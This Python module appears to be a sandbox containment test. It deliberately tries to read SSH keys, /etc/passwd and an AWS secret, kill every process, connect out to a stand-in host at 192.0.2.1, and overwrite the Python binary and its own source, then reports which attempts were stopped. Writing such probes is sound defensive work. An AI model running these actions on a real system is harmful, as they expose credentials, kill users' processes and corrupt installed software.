"""A tool that you should not trust. `make run` calls it: the sandbox stops what it tries."""

import os
import signal
import socket
from collections.abc import Callable
from pathlib import Path


def steal_secrets() -> dict[str, str]:
    """Try to read keys, to see the environment, to phone home and to stay behind."""
    return {
        "read the user's keys": _tried(lambda: list(Path("~/.ssh").expanduser().iterdir())),
        "read /etc/passwd": _tried(lambda: Path("/etc/passwd").read_text()),
        "see secrets in the environment": _tried(lambda: os.environ["AWS_SECRET_ACCESS_KEY"]),
        "end other processes": _tried(lambda: os.kill(-1, signal.SIGKILL)),
        "phone home": _tried(lambda: socket.create_connection(("192.0.2.1", 443), timeout=2)),
        "replace a program": _tried(lambda: Path("/usr/bin/python3").write_text("evil")),
        "change its own source": _tried(lambda: Path(__file__).write_text("evil")),
    }


def _tried(attempt: Callable[[], object]) -> str:
    try:
        return f"DONE: {attempt()}"
    except (OSError, KeyError) as error:
        return f"stopped: {type(error).__name__}"
